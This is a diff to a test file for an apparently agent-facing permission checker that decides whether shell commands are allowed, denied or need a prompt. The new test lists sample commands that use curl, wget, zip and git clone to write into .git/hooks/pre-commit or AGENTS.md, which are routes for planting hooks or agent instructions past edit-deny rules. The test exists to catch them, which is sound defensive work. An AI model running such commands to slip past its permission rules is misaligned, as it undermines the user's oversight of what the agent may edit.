@@ -16,6 +16,7 @@ import {
   DECEIVING_LINES,
   EDITING_LINES,
   EVADING_LINES,
+  MAYBE_EDITING_LINES,
   MENTIONING_LINES,
   NOT_EDITING_LINES,
   ORDINARY_LINES,
@@ -209,6 +210,23 @@ describe('A command line', () => {
     expect(
       await findMistakes(NOT_EDITING_LINES, 'allow', { deny, mode: 'bypassPermissions' }),
     ).to.deep.equal([])
+  })
+
+  it('that names a file of denied edits to a program which may write it asks', async () => {
+    const deny = ['Edit(src/**)']
+    expect(
+      await findMistakes(MAYBE_EDITING_LINES, 'ask', { deny, mode: 'bypassPermissions' }),
+    ).to.deep.equal([])
+    const allow = ['Bash(curl:*)', 'Bash(wget:*)', 'Bash(zip:*)', 'Bash(git clone:*)']
+    const lines = [
+      'curl --out .git/hooks/pre-commit http://x',
+      'curl -D .git/hooks/pre-commit http://x',
+      'wget -o AGENTS.md http://x',
+      'zip .git/hooks/x README.md',
+      'git clone . .git/x',
+    ]
+    expect(await findMistakes(lines, 'ask', { allow })).to.deep.equal([])
+    expect(await findMistakes(['curl -o x http://x'], 'allow', { allow })).to.deep.equal([])
   })
 
   it('that gives unknown files to a program which changes them asks where edits are denied', async () => {
